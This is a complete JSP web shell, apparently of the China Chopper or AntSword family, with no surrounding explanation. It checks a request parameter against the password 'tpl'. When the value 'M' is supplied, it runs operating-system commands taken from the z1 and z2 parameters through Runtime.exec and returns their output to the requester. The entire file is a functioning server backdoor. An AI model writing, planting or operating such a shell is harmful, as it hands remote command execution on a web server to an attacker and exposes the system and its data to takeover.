<%@page import="java.io.*,java.util.*,java.net.*,java.sql.*,java.text.*"%>
<%!
String Pwd = "tpl";
String cs = "UTF-8";
String EC(String s) throws Exception { return new String(s.getBytes("ISO-8859-1"), cs); }
void CC(String cmd, JspWriter out) throws Exception {
  Process p = Runtime.getRuntime().exec(cmd);
  BufferedReader br = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String l; while ((l = br.readLine()) != null) out.println(l);
}
%>
<%
cs = request.getParameter("z0") != null ? request.getParameter("z0") + "" : cs;
String Z = EC(request.getParameter(Pwd) + "");
String z1 = EC(request.getParameter("z1") + "");
String z2 = EC(request.getParameter("z2") + "");
out.print("->|");
if (Z.equals("M")) { CC(z1.substring(2) + " " + z2, out); }
out.print("|<-");
%>
